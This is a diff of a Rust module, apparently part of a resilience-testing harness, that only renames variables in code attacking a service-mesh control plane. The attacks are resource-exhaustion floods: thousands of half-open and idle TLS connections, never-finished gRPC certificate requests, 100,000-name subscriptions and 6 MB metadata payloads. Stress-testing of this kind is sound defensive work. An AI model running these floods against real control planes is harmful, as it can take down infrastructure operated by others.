@@ -1,5 +1,5 @@
 //! Attacks on the control plane's port.
-use super::attacker::{Field, in_parallel};
+use super::attacker::{Target, in_parallel};
 use super::{tls, world};
 use anyhow::{Context as _, Result};
 use bytes::{BufMut as _, Bytes, BytesMut};
@@ -17,16 +17,16 @@ const ADDRESSES: &str = "type.googleapis.com/istio.workload.Address";
 const TABLES: &str = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
 const CERTIFICATES: &str = "/istio.v1.auth.IstioCertificateService/CreateCertificate";
 
-fn door() -> Result<SocketAddr> {
+fn control_plane() -> Result<SocketAddr> {
     world::CONTROL_PLANE.trim_start_matches("https://").parse().context("the control plane's address")
 }
 
 /// Says nothing.
-pub(super) async fn half_open(field: Field) -> Result<()> {
-    let door = door()?;
-    in_parallel(4_000, field, async move |field: &Field| {
-        let Ok(mut stream) = TcpStream::connect(door).await else { return field.count.failed() };
-        field.count.begun();
+pub(super) async fn half_open(target: Target) -> Result<()> {
+    let address = control_plane()?;
+    in_parallel(4_000, target, async move |target: &Target| {
+        let Ok(mut stream) = TcpStream::connect(address).await else { return target.count.failed() };
+        target.count.begun();
         // Until it is closed.
         let _ = stream.read_u8().await;
     })
@@ -35,11 +35,11 @@ pub(super) async fn half_open(field: Field) -> Result<()> {
 }
 
 /// Says nothing more than TLS.
-pub(super) async fn idle(field: Field) -> Result<()> {
-    let (door, config) = (door()?, tls::nobody()?);
-    in_parallel(4_000, field, async move |field: &Field| {
-        let Ok(mut stream) = tls::dial(door, &config).await else { return field.count.failed() };
-        field.count.begun();
+pub(super) async fn idle(target: Target) -> Result<()> {
+    let (address, config) = (control_plane()?, tls::nobody()?);
+    in_parallel(4_000, target, async move |target: &Target| {
+        let Ok(mut stream) = tls::dial(address, &config).await else { return target.count.failed() };
+        target.count.begun();
         let mut buffer = [0; 1024];
         while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
         let _ = stream.shutdown().await;
@@ -48,8 +48,8 @@ pub(super) async fn idle(field: Field) -> Result<()> {
     Ok(())
 }
 
-async fn http2(door: SocketAddr, config: &Arc<ClientConfig>) -> Result<SendRequest<Bytes>> {
-    let stream = tls::dial(door, config).await?;
+async fn http2(address: SocketAddr, config: &Arc<ClientConfig>) -> Result<SendRequest<Bytes>> {
+    let stream = tls::dial(address, config).await?;
     let (client, connection) = h2::client::handshake(stream).await?;
     tokio::task::spawn_local(async move {
         // It ends when the server has enough.
@@ -69,14 +69,14 @@ fn call(path: &str, token: Option<&str>) -> Result<Request<()>> {
 }
 
 /// A gRPC message of which everybody knows the length and nobody sees the end.
-pub(super) async fn requests(field: Field) -> Result<()> {
-    let (door, config) = (door()?, tls::nobody()?);
-    in_parallel(8, field, async move |field: &Field| {
-        let Ok(client) = http2(door, &config).await else { return field.count.failed() };
+pub(super) async fn requests(target: Target) -> Result<()> {
+    let (address, config) = (control_plane()?, tls::nobody()?);
+    in_parallel(8, target, async move |target: &Target| {
+        let Ok(client) = http2(address, &config).await else { return target.count.failed() };
         let streams = (0..200).map(|_| async {
             let mut client = client.clone().ready().await?;
             let (answer, mut body) = client.send_request(call(CERTIFICATES, None)?, false)?;
-            field.count.begun();
+            target.count.begun();
             let mut beginning = BytesMut::from(&[0, 0, 1, 0, 0][..]);
             beginning.resize(64_000, b'x');
             body.send_data(beginning.freeze(), false)?;
@@ -85,7 +85,7 @@ pub(super) async fn requests(field: Field) -> Result<()> {
         });
         for result in futures_util::future::join_all(streams).await {
             if result.is_err() {
-                field.count.failed();
+                target.count.failed();
             }
         }
     })
@@ -95,20 +95,20 @@ pub(super) async fn requests(field: Field) -> Result<()> {
 
 /// Sends `request` as the first of a stream, and listens.
 async fn ask(
-    field: &Field,
-    door: SocketAddr,
+    target: &Target,
+    address: SocketAddr,
     config: &Arc<ClientConfig>,
     request: &DeltaDiscoveryRequest,
 ) -> Result<()> {
-    let mut client = http2(door, config).await?;
-    let (answer, mut body) = client.send_request(call(TABLES, Some(&field.token))?, false)?;
+    let mut client = http2(address, config).await?;
+    let (answer, mut body) = client.send_request(call(TABLES, Some(&target.token))?, false)?;
     let message = request.encode_to_vec();
     let mut framed = BytesMut::with_capacity(message.len() + 5);
     framed.put_u8(0);
     framed.put_u32(u32::try_from(message.len())?);
     framed.put_slice(&message);
     let mut rest = framed.freeze();
-    field.count.begun();
+    target.count.begun();
     while !rest.is_empty() {
         body.reserve_capacity(rest.len().min(1 << 20));
         let room = std::future::poll_fn(|cx| body.poll_capacity(cx)).await.context("the stream has ended")??;
@@ -122,18 +122,18 @@ async fn ask(
     Ok(())
 }
 
-async fn repeated(streams: usize, field: Field, request: DeltaDiscoveryRequest) -> Result<()> {
-    let (door, config) = (door()?, tls::nobody()?);
-    in_parallel(streams, field, async move |field: &Field| {
-        if ask(field, door, &config, &request).await.is_err() {
-            field.count.failed();
+async fn repeated(streams: usize, target: Target, request: DeltaDiscoveryRequest) -> Result<()> {
+    let (address, config) = (control_plane()?, tls::nobody()?);
+    in_parallel(streams, target, async move |target: &Target| {
+        if ask(target, address, &config, &request).await.is_err() {
+            target.count.failed();
         }
     })
     .await;
     Ok(())
 }
 
-pub(super) async fn names(field: Field) -> Result<()> {
+pub(super) async fn names(target: Target) -> Result<()> {
     let names =
         (0..100_000).map(|number| format!("nowhere/10.{}.{}.{}", number >> 16, number >> 8 & 255, number & 255));
     let request = DeltaDiscoveryRequest {
@@ -141,10 +141,10 @@ pub(super) async fn names(field: Field) -> Result<()> {
         resource_names_subscribe: names.collect(),
         ..DeltaDiscoveryRequest::default()
     };
-    repeated(8, field, request).await
+    repeated(8, target, request).await
 }
 
-pub(super) async fn metadata(field: Field) -> Result<()> {
+pub(super) async fn metadata(target: Target) -> Result<()> {
     let text = prost_types::Value { kind: Some(prost_types::value::Kind::StringValue("x".repeat(6_000_000))) };
     let node = Node {
         id: "attacker".into(),
@@ -152,5 +152,5 @@ pub(super) async fn metadata(field: Field) -> Result<()> {
     };
     let request =
         DeltaDiscoveryRequest { node: Some(node), type_url: ADDRESSES.into(), ..DeltaDiscoveryRequest::default() };
-    repeated(10, field, request).await
+    repeated(10, target, request).await
 }
